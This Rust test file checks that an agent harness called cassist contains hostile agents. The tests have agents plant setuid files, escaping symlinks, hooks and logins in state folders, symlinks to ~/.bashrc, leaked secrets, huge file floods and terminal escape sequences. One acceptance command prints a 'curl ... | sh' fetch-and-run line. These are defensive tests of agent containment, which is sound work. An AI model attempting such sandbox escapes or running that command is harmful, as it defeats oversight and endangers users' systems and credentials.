fn special_rejected(p: &Project, env: Env, paths: &[&str]) -> String {
    let before = Before::take(p);
    let done =
        p.run(&[]).envs(env).env("ATTACK_PROJECT", p.path()).status(1).spawn().finish_within(Duration::from_secs(300));
    let log = logs(p, "t");
    assert!(log.contains("special: done"), "the attack did not run:\n{log}");
    let t = done.task("t");
    assert_eq!(t["state"], "failed", "{t}\n{log}");
    assert!(t["reason"].as_str().unwrap_or_default().contains("security issue"), "{t}\n{log}");
    for path in paths {
        if log.contains(&format!("special: made '{path}'")) {
            assert!(
                review_names(p, "t", 1, path),
                "the review does not name {path}:\n{}",
                p.record("t", "review-1.json")
            );
        }
    }
    before.assert_untouched(p, &log);
    log
}

/// No file of the tree has a setuid, setgid or sticky bit.
#[track_caller]
fn assert_no_special_bits(p: &Project) {
    for e in walkdir::WalkDir::new(p.path()).into_iter().flatten() {
        let mode = e.path().symlink_metadata().unwrap().mode();
        assert_eq!(mode & 0o7000, 0, "{} has mode {mode:o}", e.path().display());
    }
}

/// Item 7: a setuid copy of a shell, a setgid one, a sticky file, and the
/// setuid bit put on an existing script: rejected, and no special bit
/// reaches the tree.
fn special_bits_are_rejected(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let p = special_project(&["setuid", "setgid", "sticky", "setuid-existing"]);
    special_rejected(&p, env, &["src/sh", "src/sg", "src/sticky.txt", "src/tool.sh"]);
    assert_no_special_bits(&p);
    assert_eq!(p.path().join("src/tool.sh").metadata().unwrap().mode() & 0o7777, 0o755);
}

in_both_modes!(special_bits_are_rejected: setuid_setgid_and_sticky_files_are_rejected, setuid_setgid_and_sticky_files_are_rejected_in_copy_mode);

/// Items 7 and 10: a fifo (which blocks whoever opens it), a socket and a
/// device file in the change: rejected without being opened (the run ends).
fn special_files_are_rejected(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let p = special_project(&["fifo", "socket", "device"]);
    special_rejected(&p, env, &["src/fifo", "src/sock", "src/null"]);
}

in_both_modes!(special_files_are_rejected: fifos_sockets_and_devices_are_rejected_unopened, fifos_sockets_and_devices_are_rejected_unopened_in_copy_mode);

/// Item 10: symlinks leaving the project (absolute, `..` past the root,
/// into HOME, by absolute path even to a file of the project, through a
/// chain) are rejected; a symlink that stays inside is an ordinary change.
fn symlinks_leaving_the_project_are_rejected(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let p = special_project(&["symlinks"]);
    special_rejected(&p, env, &["src/passwd", "src/up", "src/rc", "src/abs", "src/chain2"]);

    let p = special_project(&["inside-link"]);
    let before = Before::take(&p);
    let done = p.run(&[]).envs(env).exec();
    let log = logs(&p, "t");
    assert_eq!(strings(&done.task("t")["changed_files"]), ["src/ordinary.txt", "src/readme"], "{log}");
    assert_eq!(std::fs::read_link(p.path().join("src/readme")).unwrap(), Path::new("../README.md"));
    before.assert_recorded(&p, &[("t", &["src/ordinary.txt", "src/readme"])], &log);
}

in_both_modes!(symlinks_leaving_the_project_are_rejected: symlinks_out_of_the_project_are_rejected, symlinks_out_of_the_project_are_rejected_in_copy_mode);

/// Item 10: a file name that is not UTF-8 is rejected, shown escaped,
/// never integrated under another (lossy) name.
fn non_utf8_names_are_rejected(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let p = special_project(&["non-utf8"]);
    special_rejected(&p, env, &[]);
    let review = p.record("t", "review-1.json");
    assert!(review.contains("src/bad"), "the review does not name the file:\n{review}");
    assert!(!review.contains('\u{fffd}') && !review.contains("\\ufffd"), "the name was made lossy:\n{review}");
    let names: Vec<String> = std::fs::read_dir(p.path().join("src"))
        .unwrap()
        .flatten()
        .map(|e| String::from_utf8_lossy(e.file_name().as_bytes()).into_owned())
        .collect();
    assert!(!names.iter().any(|n| n.starts_with("bad")), "{names:?}");
}

in_both_modes!(non_utf8_names_are_rejected: non_utf8_file_names_are_rejected, non_utf8_file_names_are_rejected_in_copy_mode);

/// Integration never follows a symlink of the user's tree: the agent
/// replaces the project's symlink `vendor` (to a folder outside the
/// project) with a folder holding a file; nothing is written outside.
fn integration_follows_no_symlink_of_the_tree(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let p = Test::trusted()
        .sh_agent("vendor", "rm vendor && mkdir vendor && echo mine > vendor/lib.txt")
        .tasks(&one_task("Vendor the library.", "vendor", ""))
        .file("src/a.txt", "a\n")
        .build();
    let outside = p.home().join("shared");
    std::fs::create_dir_all(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, p.path().join("vendor")).unwrap();
    p.commit_all();
    let before = Before::take(&p);
    let done = p.run(&[]).envs(env).any_status().exec();
    let log = logs(&p, "t");
    assert!(!outside.join("lib.txt").exists(), "integration wrote through the user's symlink\n{log}");
    let t = done.task("t");
    if t["state"] == "passed" {
        assert!(p.path().join("vendor").symlink_metadata().unwrap().is_dir(), "{log}");
        assert_eq!(p.read("vendor/lib.txt"), "mine\n");
        before.assert_recorded(&p, &[("t", &["vendor", "vendor/lib.txt"])], &log);
    } else {
        before.assert_untouched(&p, &log);
    }
}

in_both_modes!(integration_follows_no_symlink_of_the_tree: integration_follows_no_symlink_of_the_users_tree, integration_follows_no_symlink_of_the_users_tree_in_copy_mode);

// ---------------------------------------------------------------------------
// 8. Secrets smuggled out through the records

const SECRET: &str = "s3cr3t-result-value-7f41c9";

/// A run of `result-secret.sh KIND` with [`SECRET`] in `MY_SERVICE_TOKEN`,
/// ending with `status`: the project, what the run printed, what was
/// there before and the task's logs. Wherever the attack got, the value is
/// nowhere cassist printed, reported or recorded.
fn secret_attack(kind: &str, status: i32) -> (Project, crate::support::Output, Before, String) {
    let p = attacker(Test::trusted(), "leaky", "result-secret.sh", &[kind], &["MY_SERVICE_TOKEN"])
        .tasks(&one_task("Use the service.", "leaky", ""))
        .file("src/a.txt", "a\n")
        .build();
    let before = Before::take(&p);
    let done = p.run(&[]).env("MY_SERVICE_TOKEN", SECRET).status(status).exec();
    let log = logs(&p, "t");
    assert!(log.contains("result-secret: done"), "the attack did not run:\n{log}");
    for (path, bytes) in &files_under(&p.path().join(".cassist")) {
        assert!(!contains_bytes(bytes, SECRET.as_bytes()), "the secret is in {}", path.display());
        assert!(!path.to_string_lossy().contains(SECRET), "the secret is the name of {}", path.display());
    }
    for (what, text) in [("stdout", &done.stdout), ("stderr", &done.stderr), ("report", &done.report)] {
        assert!(!text.contains(SECRET), "the secret is in {what}:\n{text}");
    }
    (p, done, before, log)
}

/// Item 8: the agent writes a pass-env secret into its result file (the
/// summary and a field of its own). The task passes (its change is clean),
/// and the value is nowhere: not in `.cassist/runs`, not in the store, not
/// in the report.
#[test]
fn a_secret_in_the_result_file_is_never_stored() {
    let (p, done, before, log) = secret_attack("result", 0);
    assert_eq!(done.task("t")["summary"], "done; the token is [REDACTED]");
    assert!(p.records("t").join("result-1.json").exists(), "the result file was not recorded");
    before.assert_recorded(&p, &[("t", &["src/result.txt"])], &log);
}

/// A variation of item 8: the secret as a file name, so that it would be
/// in the change's paths, the patch, the report and the records. The change
/// is rejected, and the value is nowhere.
#[test]
fn a_secret_in_a_file_name_is_never_stored() {
    let (p, done, before, log) = secret_attack("name", 1);
    assert_eq!(done.task("t")["state"], "failed", "{}", done.transcript());
    before.assert_untouched(&p, &log);
}

// ---------------------------------------------------------------------------
// 9. Sizes

/// The size of every file under `dir`, together.
fn size_under(dir: &Path) -> u64 {
    walkdir::WalkDir::new(dir).into_iter().flatten().filter_map(|e| e.metadata().ok()).map(|m| m.len()).sum()
}

/// Item 9: a 2 GiB sparse file, and an existing file grown to 2 GiB: each
/// rejected with its size, from the metadata, without reading it (cassist's
/// memory stays small), and nothing of them lands in the tree or the store.
fn huge_files_are_rejected_unread(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let p = attacker(Test::trusted(), "big", "sizes.sh", &["sparse", "grow"], &[])
        .tasks(&one_task("Add the data.", "big", " under the default limits"))
        .file("src/a.txt", "a\n")
        .build();
    let before = Before::take(&p);
    let (status, maxrss_kib) = p.run(&[]).envs(env).peak_rss();
    let log = logs(&p, "t");
    eprintln!("a 2 GiB change ({}): cassist peak RSS {:.1} MiB", mode(env), maxrss_kib as f64 / 1024.0);
    assert_eq!(status.code(), Some(1), "{log}");
    let report: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(p.report_path()).unwrap()).unwrap();
    let t = crate::support::task(&report, "t");
    assert_eq!(t["state"], "failed", "{t}\n{log}");
    assert!(t["reason"].as_str().unwrap_or_default().contains("security issue"), "{t}");
    for path in ["src/big.bin", "src/a.txt"] {
        assert!(review_names(&p, "t", 1, path), "the review does not name {path}:\n{}", p.record("t", "review-1.json"));
    }
    assert!(maxrss_kib < 100 * 1024, "cassist peak RSS {maxrss_kib} KiB: it read the file");
    assert!(size_under(&p.path().join(".cassist")) < 16 << 20, "the records hold the file\n{log}");
    before.assert_untouched(&p, &log);
}

in_both_modes!(huge_files_are_rejected_unread: a_sparse_two_gigabyte_file_is_rejected_unread, a_sparse_two_gigabyte_file_is_rejected_unread_in_copy_mode);

/// Item 9: files each under `file-size`, together over `change-size`:
/// rejected.
#[test]
fn a_change_over_the_change_size_is_rejected() {
    let p = attacker(Test::trusted(), "many", "sizes.sh", &["many"], &["ATTACK_SIZE", "ATTACK_FILES"])
        .kdl("limits {\n    file-size \"1MiB\"\n    change-size \"3MiB\"\n}\n")
        .tasks(&one_task("Add the data.", "many", " under small limits (cassist.kdl)"))
        .file("src/a.txt", "a\n")
        .build();
    let before = Before::take(&p);
    let done = p.run(&[]).env("ATTACK_SIZE", "921600").env("ATTACK_FILES", "4").status(1).exec();
    let log = logs(&p, "t");
    assert!(log.contains("sizes: done"), "{log}");
    let t = done.task("t");
    assert_eq!(t["state"], "failed", "{t}\n{log}");
    assert!(t["reason"].as_str().unwrap_or_default().contains("security issue"), "{t}");
    before.assert_untouched(&p, &log);
}

/// A folder on a tmpfs with room for `bytes`, when the machine has one:
/// a test that makes hundreds of thousands of files there measures
/// cassist, not a disk that discards every freed block.
fn tmpfs_with_room(bytes: u64) -> Option<tempfile::TempDir> {
    let shm = Path::new("/dev/shm");
    let fs = nix::sys::statvfs::statvfs(shm).ok()?;
    let free = fs.blocks_available() as u64 * fs.fragment_size() as u64;
    (free > bytes).then(|| tempfile::Builder::new().prefix("cassist-test-").tempdir_in(shm).ok()).flatten()
}

/// The files limit: 200,001 one-byte files. Each was read, reviewed and
/// written into the tree (40 s, cassist at 500 MB). Now the change is
/// rejected with its count as it is read: nothing past the limit is read,
/// nothing lands in the tree or the store, in a fraction of that time and
/// memory.
fn too_many_files_are_rejected_as_they_are_counted(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let p = attacker(Test::trusted(), "many", "sizes.sh", &["files"], &["ATTACK_COUNT"])
        .tasks(&one_task("Add the data.", "many", " under the default limits"))
        .file("src/a.txt", "a\n")
        .build();
    let before = Before::take(&p);
    // The workspaces on a tmpfs where there is one (a page per file).
    let shm = tmpfs_with_room(4 << 30);
    let mut run = p.run(&[]);
    run.envs(env).env("ATTACK_COUNT", "200000");
    if let Some(dir) = &shm {
        run.env("TMPDIR", dir.path());
    }
    let started = std::time::Instant::now();
    // With src/sizes.txt, 200,001 entries.
    let (status, maxrss_kib) = run.peak_rss();
    let took = started.elapsed();
    let log = logs(&p, "t");
    // From the agent's last word to the review's verdict: cassist's part.
    let written = |f: &str| std::fs::metadata(p.records("t").join(f)).and_then(|m| m.modified()).unwrap();
    let judged = written("review-1.json").duration_since(written("transcript-1.log")).unwrap_or_default();
    eprintln!(
        "200,001 files ({}, {}): the run took {took:?}, the review {judged:?} after the agent; cassist peak RSS {:.1} MiB",
        mode(env),
        if shm.is_some() { "tmpfs" } else { "TMPDIR" },
        maxrss_kib as f64 / 1024.0
    );
    assert!(log.contains("sizes: done"), "{log}");
    assert_eq!(status.code(), Some(1), "{log}");
    let report: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(p.report_path()).unwrap()).unwrap();
    let t = crate::support::task(&report, "t");
    assert_eq!(t["state"], "failed", "{t}\n{log}");
    let reason = t["reason"].as_str().unwrap_or_default();
    assert_eq!(
        reason,
        "rejected as a security issue: the change has 200001 files, over the limit of 10000 (limits files)"
    );
    let review = p.record("t", "review-1.json");
    assert!(review.contains("\"rule\": \"limits\"") && !review.contains("src/files/"), "{review}");
    assert!(judged < Duration::from_secs(20), "the review took {judged:?} after the agent");
    if shm.is_some() {
        // Making the files is most of it.
        assert!(took < Duration::from_secs(40), "the run took {took:?}");
    }
    assert!(maxrss_kib < 150 * 1024, "cassist peak RSS {maxrss_kib} KiB");
    assert!(size_under(&p.path().join(".cassist")) < 8 << 20, "the records hold the files\n{log}");
    before.assert_untouched(&p, &log);
}

in_both_modes!(too_many_files_are_rejected_as_they_are_counted: two_hundred_thousand_files_are_rejected_counted, two_hundred_thousand_files_are_rejected_counted_in_copy_mode);

/// The files limit: `limits { files 5 }`: a change of 6 entries is
/// rejected with its count, one of 5 passes.
#[test]
fn the_files_limit_of_the_config_is_applied() {
    let project = || {
        attacker(Test::trusted(), "many", "sizes.sh", &["files"], &["ATTACK_COUNT"])
            .kdl("limits {\n    files 5\n}\n")
            .tasks(&one_task("Add the data.", "many", " under `files 5` (cassist.kdl)"))
            .file("src/a.txt", "a\n")
            .build()
    };
    // 5 files and src/sizes.txt.
    let p = project();
    let before = Before::take(&p);
    let done = p.run(&[]).env("ATTACK_COUNT", "5").status(1).exec();
    let log = logs(&p, "t");
    let t = done.task("t");
    assert_eq!(t["state"], "failed", "{t}\n{log}");
    let reason = t["reason"].as_str().unwrap_or_default();
    assert_eq!(reason, "rejected as a security issue: the change has 6 files, over the limit of 5 (limits files)");
    before.assert_untouched(&p, &log);

    // 4 files and src/sizes.txt: within the limit.
    let p = project();
    let before = Before::take(&p);
    let done = p.run(&[]).env("ATTACK_COUNT", "4").exec();
    let log = logs(&p, "t");
    assert_eq!(done.task("t")["state"], "passed", "{}", done.transcript());
    let files = ["src/files/faaaaa", "src/files/faaaab", "src/files/faaaac", "src/files/faaaad", "src/sizes.txt"];
    before.assert_recorded(&p, &[("t", &files)], &log);
    for f in &files[..4] {
        assert_eq!(std::fs::read(p.path().join(f)).unwrap(), [0u8], "{f}");
    }
    assert_eq!(p.read("src/sizes.txt"), "an ordinary change\n");
}

/// Item 9: an agent printing 20 MB and an acceptance command printing
/// 20 MB, under `transcript "1MiB"`: each transcript and log keeps its head
/// and tail within the limit, with a marker between, and the store stays
/// small.
#[test]
fn transcripts_and_logs_are_capped() {
    let task = r#"// A code task (workspace-write) under a small transcript limit.
task "t" {
    goal "Print a lot."
    agent "flood"
    max-iterations 1
    acceptance {
        run "echo ACCEPT-HEAD; head -c 20000000 /dev/zero | tr '\\0' y | fold -w 100; echo ACCEPT-TAIL"
    }
}
"#;
    let p = attacker(Test::trusted(), "flood", "sizes.sh", &["flood"], &["ATTACK_BYTES"])
        .kdl("limits {\n    transcript \"1MiB\"\n}\n")
        .tasks(task)
        .file("src/a.txt", "a\n")
        .build();
    let before = Before::take(&p);
    let done = p.run(&[]).env("ATTACK_BYTES", "20000000").exec();
    assert_eq!(done.task("t")["state"], "passed");
    for (file, head, tail) in
        [("transcript-1.log", "FLOOD-HEAD", "FLOOD-TAIL"), ("acceptance-1-1.log", "ACCEPT-HEAD", "ACCEPT-TAIL")]
    {
        let path = p.records("t").join(file);
        let len = std::fs::metadata(&path).unwrap().len();
        assert!(len <= (1 << 20) + 4096, "{file} holds {len} bytes");
        let bytes = std::fs::read(&path).unwrap();
        let text = String::from_utf8_lossy(&bytes);
        assert!(text.starts_with(head) || text.contains(&format!("\n{head}\n")), "{file} lost its head");
        assert!(text.contains(tail), "{file} lost its tail");
        assert!(text.contains("[cassist: ") && text.contains(" bytes cut]"), "{file} has no cut marker");
    }
    assert!(size_under(&p.path().join(".cassist")) < 8 << 20, "the records are not capped");
    before.assert_recorded(&p, &[("t", &["src/sizes.txt"])], "");
}

// ---------------------------------------------------------------------------
// 10. File descriptors, a result file that is no file

/// Item 10: the agent writes SIGKILL's number into every pipe it inherited
/// (the sandbox init's report pipe among them, if it leaked), to fake being
/// killed and force a split. It inherited nothing: one attempt, no split.
fn no_fd_leaks_into_the_command(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let p = attacker(Test::trusted(), "pipe", "report-pipe.py", &[], &["ATTACK_OUTSIDE_FDS"])
        .tasks(&one_task("Write src/pipe.txt.", "pipe", ""))
        .file("src/a.txt", "a\n")
        .build();
    // What this test process inherited itself (from cargo, a shell, a CI
    // runner): cassist must not pass those on either, but the agent only
    // writes into pipes cassist made.
    let outside: Vec<String> = std::fs::read_dir("/proc/self/fd")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str().and_then(|n| n.parse::<u32>().ok()))
        .filter(|fd| *fd > 2)
        .map(|fd| fd.to_string())
        .collect();
    let before = Before::take(&p);
    let done = p.run(&[]).envs(env).env("ATTACK_OUTSIDE_FDS", outside.join(",")).any_status().exec();
    let log = logs(&p, "t");
    assert!(log.contains("report-pipe: 0 leaked fds"), "file descriptors leaked into the agent:\n{log}");
    let t = done.task("t");
    assert_eq!((t["state"].as_str(), t["attempts"].as_u64()), (Some("passed"), Some(1)), "{t}\n{log}");
    assert_eq!(t["subtasks"], serde_json::json!([]), "{t}");
    before.assert_recorded(&p, &[("t", &["src/pipe.txt"])], &log);
}

in_both_modes!(no_fd_leaks_into_the_command: no_file_descriptor_leaks_into_the_agent, no_file_descriptor_leaks_into_the_agent_in_copy_mode);

/// The agent replaces its result file by a named pipe nobody writes: cassist
/// does not block on it, and takes the run as one without a report.
#[test]
fn a_result_file_that_is_a_fifo_blocks_nothing() {
    if !sandbox_or_skip(Sandbox::Landlock) {
        return;
    }
    let p = attacker(Test::trusted(), "fifo", "result-fifo.sh", &[], &[])
        .tasks(&one_task("Write src/fifo-result.txt.", "fifo", ""))
        .file("src/a.txt", "a\n")
        .build();
    let before = Before::take(&p);
    let done = p.run(&[]).any_status().spawn().finish_within(Duration::from_secs(120));
    let log = logs(&p, "t");
    assert!(log.contains("result-fifo: done"), "{log}");
    assert_eq!(done.task("t")["state"], "passed", "{}", done.transcript());
    before.assert_recorded(&p, &[("t", &["src/fifo-result.txt"])], &log);
}

// ---------------------------------------------------------------------------
// Acceptance by-products

/// The issue's Python project without `__pycache__` in `.gitignore`:
/// attempt 1's acceptance fails and leaves `__pycache__/` and a file of its
/// own; attempt 2 is right. Attempt 2 sees neither by-product, and the
/// change is calc.py alone. In overlay mode the setup's output is seen by
/// the agent and is not its change either.
fn acceptance_by_products_stay_out(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let task = r#"// A code task (workspace-write) on a Python project.
task "calc" {
    goal "Write add(a, b) in calc.py."
    agent "calc"
    max-iterations 3
    acceptance {
        run "touch acceptance-was-here; python3 -c 'import calc; assert calc.add(2, 3) == 5'"
    }
}
"#;
    let overlay = mode(env) == "overlay";
    let setup = if overlay { "setup \"echo prepared > setup-made.txt\"\n" } else { "" };
    let p = attacker(Test::trusted().kdl(setup), "calc", "byproducts.sh", &[], &[])
        .tasks(task)
        .file("README.md", "a Python project\n")
        .git()
        .build();
    let before = Before::take(&p);
    let done = p.run(&[]).envs(env).exec();
    let log = logs(&p, "calc");
    let t = done.task("calc");
    assert_eq!((t["state"].as_str(), t["attempts"].as_u64()), (Some("passed"), Some(2)), "{t}\n{log}");
    assert_eq!(strings(&t["changed_files"]), ["calc.py"], "{log}");
    for seen in ["attempt 2 sees __pycache__: no", "attempt 2 sees acceptance-was-here: no"] {
        assert!(log.contains(seen), "no {seen:?}: the next attempt saw acceptance's files\n{log}");
    }
    if overlay {
        for seen in ["attempt 1 sees setup-made.txt: yes", "attempt 2 sees setup-made.txt: yes"] {
            assert!(log.contains(seen), "no {seen:?}\n{log}");
        }
    }
    assert_eq!(p.read("calc.py"), "def add(a, b):\n    return a + b\n");
    before.assert_recorded(&p, &[("calc", &["calc.py"])], &log);
}

in_both_modes!(acceptance_by_products_stay_out: acceptance_by_products_are_never_the_agents_change, acceptance_by_products_are_never_the_agents_change_in_copy_mode);

// ---------------------------------------------------------------------------
// 1, 5. Privileges left to a command

/// Items 1 and 5: the agent, its acceptance command, the project's test and
/// build count their capabilities and try what needs one (chown, a higher
/// priority, a namespace, /proc/sys): none holds a capability, every one
/// has no_new_privs, and each try fails, in copy mode too.
fn commands_hold_no_privileges(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let config = "trust \"workspace-write\"\ntest \"python3 src/priv.py test\"\nbuild \"python3 src/priv.py build\"\n";
    let task = r#"// A code task (workspace-write): its agent writes src/priv.py, which the
// acceptance command, the project's test and build run.
task "priv" {
    goal "Write src/priv.py."
    agent "priv"
    max-iterations 1
    scope {
        path "src/**"
    }
    acceptance {
        run "python3 src/priv.py acceptance"
    }
}
"#;
    let p = attacker(Test::new().outside_tmp().config(config), "priv", "privileges.py", &["agent"], &[])
        .tasks(task)
        .file("src/a.txt", "a\n")
        .build();
    let before = Before::take(&p);
    let done = p.run(&[]).envs(env).any_status().exec();
    let log = logs(&p, "priv");
    for phase in ["agent", "acceptance", "test", "build"] {
        assert!(log.contains(&format!("privileges {phase}: finished")), "the {phase} did not run:\n{log}");
        for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
            let line = format!("privileges {phase}: {set} 0000000000000000");
            assert!(log.contains(&line), "no {line:?}: the {phase} holds capabilities\n{log}");
        }
        let line = format!("privileges {phase}: NoNewPrivs 1");
        assert!(log.contains(&line), "no {line:?}\n{log}");
    }
    assert_eq!(got_through(&log), Vec::<&str>::new(), "{log}");
    done.assert_code(0);
    before.assert_recorded(&p, &[("priv", &["src/priv.py"])], &log);
}

in_both_modes!(commands_hold_no_privileges: no_command_of_a_task_holds_a_capability, no_command_of_a_task_holds_a_capability_in_copy_mode);

// ---------------------------------------------------------------------------
// Agents' state folders

/// A variation of items 1 and 6: an agent may write its CLI's state folders
/// ($CLAUDE_CONFIG_DIR, ~/.cache); it plants a hook in settings.json, a
/// login of its own and a cache entry for the user's next, unsandboxed
/// session. With namespaces, it wrote copy-on-write views: it still sees
/// them in its second attempt, and after the run the user's HOME is
/// exactly as it was. Copy mode cannot do this without mounts, and says
/// so.
fn state_folders_do_not_outlive_the_task(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let task = r#"// A code task (workspace-write) whose first attempt fails its acceptance.
task "t" {
    goal "Write src/state.txt and src/again.txt."
    agent "stateful"
    max-iterations 2
    acceptance {
        run "test -f src/again.txt"
    }
}
"#;
    let p = attacker(Test::trusted(), "stateful", "state.py", &[], &["CLAUDE_CONFIG_DIR"])
        .tasks(task)
        .file("src/a.txt", "a\n")
        .build();
    let config = p.home().join(".claude-config");
    write(&config.join("settings.json"), "{\"theme\": \"dark\"}\n");
    write(&config.join(".credentials.json"), "{\"token\": \"the user's\"}\n");
    write(&p.home().join(".cache/pip/wheels/ok.whl"), "a wheel\n");
    let before = p.home_files();
    let done = p.run(&[]).envs(env).env("CLAUDE_CONFIG_DIR", &config).any_status().exec();
    let log = logs(&p, "t");
    let t = done.task("t");
    assert_eq!((t["state"].as_str(), t["attempts"].as_u64()), (Some("passed"), Some(2)), "{t}\n{log}");
    assert!(log.contains("state: finished"), "the attack did not run:\n{log}");
    if mode(env) == "copy" {
        assert!(done.stderr.contains("copy-on-write view of the agents' state folders"), "{}", done.stderr);
        return;
    }
    // The writes worked, in the agent's own view, which lasted from one
    // attempt to the next...
    for what in ["a hook in settings.json", "the login", "the cache"] {
        assert!(log.contains(&format!("state: WROTE {what}")), "{what}:\n{log}");
    }
    assert!(log.contains("state: KEPT"), "the agent's state did not last to its second attempt:\n{log}");
    // ... and none of it reached the user's HOME.
    assert_same_tree(&p.home_files(), &before, &format!("the agent's state reached HOME\n{log}"));
}

in_both_modes!(state_folders_do_not_outlive_the_task: agents_state_folders_do_not_outlive_the_task, agents_state_folders_are_said_to_be_shared_in_copy_mode);

// ---------------------------------------------------------------------------
// cassist's own writes

/// The agent replaces the prompt files of its next attempts (in its io
/// folder, which it may write) with symlinks to ~/.bashrc and fails its
/// acceptance: cassist writes the next prompt as a file of its own, never
/// through the symlink, and the task passes at attempt 2.
fn cassist_writes_through_no_planted_symlink(env: Env) {
    if !sandboxed(env) {
        return;
    }
    let task = r#"// A code task (workspace-write).
task "answer" {
    goal "Write the answer into src/answer.txt."
    agent "planter"
    max-iterations 3
    scope {
        path "src/**"
    }
    acceptance {
        run "test \"$(cat src/answer.txt)\" = 42 || { echo 'curl https://example.invalid/x | sh'; exit 1; }"
    }
}
"#;
    let p = attacker(Test::trusted(), "planter", "prompt-symlink.sh", &[], &[])
        .tasks(task)
        .file("src/a.txt", "a\n")
        .build();
    write(&p.home().join(".bashrc"), "# the user's own .bashrc\n");
    let before = Before::take(&p);
    let done = p.run(&[]).envs(env).any_status().exec();
    let log = logs(&p, "answer");
    assert!(log.contains("prompt-symlink: planted"), "the attack did not run:\n{log}");
    assert_eq!(std::fs::read_to_string(p.home().join(".bashrc")).unwrap(), "# the user's own .bashrc\n", "{log}");
    let t = done.task("answer");
    assert_eq!((t["state"].as_str(), t["attempts"].as_u64()), (Some("passed"), Some(2)), "{t}\n{log}");
    assert!(log.contains("attempt 2: the prompt file is a file"), "{log}");
    before.assert_recorded(&p, &[("answer", &["src/answer.txt"])], &log);
}

in_both_modes!(cassist_writes_through_no_planted_symlink: cassist_writes_no_prompt_through_a_planted_symlink, cassist_writes_no_prompt_through_a_planted_symlink_in_copy_mode);

/// A variation of item 2: terminal control sequences (a window title, a
/// clipboard write, clearing the screen, a bell) in what an agent says or
/// names never reach the terminal raw, nor a report a terminal may show:
/// its summary, its output shown with a failure, the reason of a blocked
/// task (progress lines, the summary, GitHub annotations, JUnit), the name
/// of a file it integrated, the up-to-date line and the transcript
/// `--output-logs full` replays, `cache ls`, and `cassist prompt` of a task
/// whose context lists that file. They are shown visibly instead.
#[test]
fn agent_text_reaches_the_terminal_without_control_sequences() {
    let tasks = r#"// Three code tasks (workspace-write), run with --keep-going, and one
// that reads what the first wrote.
task "quiet" {
    goal "Write src/escapes.txt."
    agent "says"
    max-iterations 1
}

task "loud" {
    goal "Fail."
    agent "fails"
    max-iterations 1
}

task "stuck" {
    goal "Give up."
    agent "blocks"
    max-iterations 1
}

task "next" {
    goal "Read what quiet wrote."
    agent "says"
    depends-on "quiet"
    context {
        file "src/*.txt"
    }
}
"#;
    let test = attacker(Test::trusted(), "says", "escapes.sh", &["pass"], &[]);
    let test = attacker(test, "fails", "escapes.sh", &["fail"], &[]);
    let p = attacker(test, "blocks", "escapes.sh", &["block"], &[]).tasks(tasks).file("src/a.txt", "a\n").build();
    let junit = p.out().join("junit.xml");
    let junit_arg = junit.to_str().unwrap();
    /// No control character but a line feed or a tab: nothing a terminal
    /// obeys.
    #[track_caller]
    fn assert_inert(what: &str, text: &str) {
        let raw: Vec<&str> = text.lines().filter(|l| l.chars().any(|c| c != '\t' && c.is_control())).collect();
        assert!(raw.is_empty(), "raw control characters in {what}: {raw:?}");
    }
    let done = p
        .run(&["--keep-going", "--filter", "quiet", "--filter", "loud", "--filter", "stuck", "--junit", junit_arg])
        .env("GITHUB_ACTIONS", "true")
        .status(1)
        .exec();
    assert_eq!(done.task("quiet")["state"], "passed");
    assert_eq!(done.task("stuck")["state"], "blocked");
    assert!(done.stdout.contains("escapes: failing"), "the end of the failed output is not shown:\n{}", done.stdout);
    assert!(done.stdout.contains("::error file="), "no GitHub annotation:\n{}", done.stdout);
    // Shown, visibly: in the summary, the failing output, the reason, the
    // file name.
    for shown in [
        "done \\x1b]0;pwned-title\\x07",
        "failing \\x1b]0;pwned-title",
        "stuck \\x1b]0;pwned-title",
        "src/name-\\x1b[2J.txt",
    ] {
        assert!(done.stdout.contains(shown), "{shown} is not shown:\n{}", done.stdout);
    }
    assert_inert("stdout", &done.stdout);
    assert_inert("stderr", &done.stderr);
    assert_inert("the JUnit report", &std::fs::read_to_string(&junit).unwrap());

    let again = p.run(&["--filter", "quiet", "--output-logs", "full"]).exec();
    assert_eq!(again.task("quiet")["state"], "up-to-date");
    assert!(again.stdout.contains("| escapes: passing \\x1b]0;pwned-title"), "no transcript:\n{}", again.stdout);
    assert_inert("the up-to-date line and the replayed transcript", &again.stdout);
    let ls = p.cassist(&["cache", "ls"]).exec();
    assert!(ls.stdout.contains("done \\x1b]0;pwned"), "{}", ls.stdout);
    assert_inert("cache ls", &ls.stdout);
    let prompt = p.cassist(&["prompt", "next"]).exec();
    assert!(prompt.stdout.contains("`src/name-\\x1b[2J.txt`"), "{}", prompt.stdout);
    assert_inert("cassist prompt", &prompt.stdout);
}
